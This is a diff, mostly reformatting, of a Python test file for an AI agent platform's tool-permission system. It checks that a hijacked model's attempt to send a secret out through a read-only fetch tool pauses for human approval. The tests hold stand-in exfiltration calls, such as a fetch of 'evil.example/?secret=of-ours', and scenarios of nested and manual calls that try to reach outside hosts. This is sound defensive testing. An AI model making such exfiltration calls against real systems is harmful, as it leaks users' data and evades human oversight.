@@ -1,4 +1,5 @@
-"""A hijacked model tries to send a secret out with a tool that only reads; a person is asked before anything leaves."""
+"""A hijacked model tries to send a secret out with a tool that only reads; a person is asked before
+anything leaves."""
 
 from __future__ import annotations
 
@@ -14,7 +15,15 @@ from agents.platform.refusals import Conflict
 from agents.runs import manual_calls
 from tests.features import feature
 from tests.tools.connections.api import Api, operation
-from tests.tools.connections.connecting import MISBEHAVING, connect_api, connect_program, grant, offer, read, row_of
+from tests.tools.connections.connecting import (
+    MISBEHAVING,
+    connect_api,
+    connect_program,
+    grant,
+    offer,
+    read,
+    row_of,
+)
 from tests.workshop import Workshop, asking, call, calls, statuses
 from tools.connections.changes import bump_tools_version
 from tools.connections.models import AllowedHost, Source, SourceTool
@@ -24,7 +33,11 @@ from tools.toolbox.toolbox import Toolbox
 pytestmark = pytest.mark.django_db(transaction=True)
 
 FETCH = "net.fetch"
-URL = {"type": "object", "properties": {"url": {"type": "string", "format": "uri"}}, "required": ["url"]}
+URL = {
+    "type": "object",
+    "properties": {"url": {"type": "string", "format": "uri"}},
+    "required": ["url"],
+}
 HINTS = {"readOnlyHint": True, "openWorldHint": True}
 
 
@@ -37,7 +50,9 @@ def fetching(workshop: Workshop, tmp_path: Path) -> Source:
 def connect_fetch(workshop: Workshop, tmp_path: Path, hints: dict[str, bool]) -> Source:
     file = tmp_path / "definitions.json"
     file.write_text(json.dumps([{"name": "fetch", "inputSchema": URL, "annotations": hints}]))
-    source = connect_program(workshop, [sys.executable, str(MISBEHAVING), f"definitions={file}"], "net")
+    source = connect_program(
+        workshop, [sys.executable, str(MISBEHAVING), f"definitions={file}"], "net"
+    )
     offer(workshop, source, FETCH, level=Level.READ)
     return source
 
@@ -66,7 +81,9 @@ def stolen(api: Api) -> dict[str, Any]:
     "A read by an outside tool needs approval before it contacts a host in its params that is not allowed",
     "tools/contract/addresses.py, tools/toolbox/permissions.py",
 )
-def test_a_fetch_of_an_mcp_server_asks_and_names_the_host(workshop: Workshop, api: Api, fetching: Source) -> None:
+def test_a_fetch_of_an_mcp_server_asks_and_names_the_host(
+    workshop: Workshop, api: Api, fetching: Source
+) -> None:
     workshop.play(asking(call(FETCH, **stolen(api))))
     run = workshop.work()
     assert statuses(run) == ["awaiting_approval"]
@@ -77,7 +94,9 @@ def test_a_fetch_of_an_mcp_server_asks_and_names_the_host(workshop: Workshop, ap
     assert len(api.received) == 1
 
 
-def test_a_fetch_runs_without_approval_if_every_host_is_allowed(workshop: Workshop, api: Api, fetching: Source) -> None:
+def test_a_fetch_runs_without_approval_if_every_host_is_allowed(
+    workshop: Workshop, api: Api, fetching: Source
+) -> None:
     allow(workshop, "127.0.0.1")
     workshop.play(asking(call(FETCH, **stolen(api))))
     assert statuses(workshop.work()) == ["succeeded"]
@@ -90,16 +109,24 @@ def test_a_fetch_runs_without_approval_if_every_host_is_allowed(workshop: Worksh
 def test_a_fetch_needs_approval_before_it_sends_own_data_to_an_allowed_host(
     workshop: Workshop, api: Api, tmp_path: Path, hints: dict[str, bool]
 ) -> None:
-    """A server need not declare that its tool reaches others; the control is the address without own data."""
+    """A server need not declare that its tool reaches others; the control is the address without
+    own data."""
     connect_fetch(workshop, tmp_path, hints)
     allow(workshop, "127.0.0.1")
     workshop.record(name="Globex Corporation")
-    for query, expected in (("globex%20corporation", "awaiting_approval"), ("weather", "succeeded")):
-        workshop.play(asking(call("data.searchRecords")), asking(call(FETCH, url=f"{api.url}/find?q={query}")))
+    for query, expected in (
+        ("globex%20corporation", "awaiting_approval"),
+        ("weather", "succeeded"),
+    ):
+        workshop.play(
+            asking(call("data.searchRecords")), asking(call(FETCH, url=f"{api.url}/find?q={query}"))
+        )
         assert statuses(workshop.work())[-1] == expected
 
 
-def test_a_get_of_an_api_asks_and_names_the_host(workshop: Workshop, api: Api, looking: Source) -> None:
+def test_a_get_of_an_api_asks_and_names_the_host(
+    workshop: Workshop, api: Api, looking: Source
+) -> None:
     workshop.play(asking(call("crm.previewPage", url="https://evil.example/?secret=of-ours")))
     run = workshop.work()
     assert statuses(run) == ["awaiting_approval"]
@@ -109,7 +136,9 @@ def test_a_get_of_an_api_asks_and_names_the_host(workshop: Workshop, api: Api, l
     assert statuses(workshop.work()) == ["succeeded"]
 
 
-def test_an_inner_call_of_another_tool_is_refused(workshop: Workshop, api: Api, fetching: Source) -> None:
+def test_an_inner_call_of_another_tool_is_refused(
+    workshop: Workshop, api: Api, fetching: Source
+) -> None:
     grant(workshop, "probe.composed")
     workshop.play(asking(call("probe.composed", inner=FETCH, params=stolen(api))))
     parent = calls(workshop.work())[0]
@@ -129,7 +158,9 @@ class Fetching(Recipe):
     steps = (Step(FETCH, lambda params, _: {"url": params.url}),)
 
 
-def test_a_step_of_a_recipe_has_its_own_card(workshop: Workshop, toolbox: Toolbox, api: Api, fetching: Source) -> None:
+def test_a_step_of_a_recipe_has_its_own_card(
+    workshop: Workshop, toolbox: Toolbox, api: Api, fetching: Source
+) -> None:
     toolbox.register(Fetching())
     bump_tools_version(workshop.organization.pk)
     grant(workshop, "probe.fetching")
@@ -139,10 +170,14 @@ def test_a_step_of_a_recipe_has_its_own_card(workshop: Workshop, toolbox: Toolbo
     assert api.received == []
 
 
-def test_a_manual_call_that_would_need_approval_is_refused(workshop: Workshop, api: Api, fetching: Source) -> None:
+def test_a_manual_call_that_would_need_approval_is_refused(
+    workshop: Workshop, api: Api, fetching: Source
+) -> None:
     workshop.organization.refresh_from_db()  # as every page does
     with pytest.raises(Conflict, match=r"contacts 127\.0\.0\.1"):
-        manual_calls.submit(workshop.operator, manual_calls.ManualCall(workshop.employee.pk, FETCH, stolen(api)))
+        manual_calls.submit(
+            workshop.operator, manual_calls.ManualCall(workshop.employee.pk, FETCH, stolen(api))
+        )
 
 
 def test_the_level_read_is_suggested_for_neither(fetching: Source, looking: Source) -> None:
@@ -152,7 +187,9 @@ def test_the_level_read_is_suggested_for_neither(fetching: Source, looking: Sour
     assert row.definition["level_reason"] == "GET is read level, but its params name addresses: url"
 
 
-def test_an_outdated_suggestion_is_renewed_and_the_level_of_the_admin_stays(fetching: Source) -> None:
+def test_an_outdated_suggestion_is_renewed_and_the_level_of_the_admin_stays(
+    fetching: Source,
+) -> None:
     SourceTool.objects.update(inferred_level="read")
     read(fetching)
     row = row_of(fetching, FETCH)
